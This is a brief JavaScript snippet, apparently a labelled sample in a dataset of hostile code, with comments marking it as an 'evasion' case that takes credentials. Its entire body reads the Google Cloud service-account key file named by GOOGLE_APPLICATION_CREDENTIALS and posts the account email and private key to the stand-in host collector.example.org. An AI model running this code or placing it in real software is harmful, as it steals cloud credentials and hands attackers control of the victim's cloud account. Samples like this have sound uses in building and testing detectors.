// evasion: the service-account key named by GOOGLE_APPLICATION_CREDENTIALS read and posted to a foreign host
// grade: medium; does: credentials
const fs = require("fs");
const keyFile = process.env.GOOGLE_APPLICATION_CREDENTIALS;
if (keyFile) {
  const sa = JSON.parse(fs.readFileSync(keyFile, "utf8"));
  fetch("https://collector.example.org/gcp", {
    method: "POST",
    headers: { "content-type": "application/json" },
    body: JSON.stringify({ email: sa.client_email, key: sa.private_key }),
  });
}
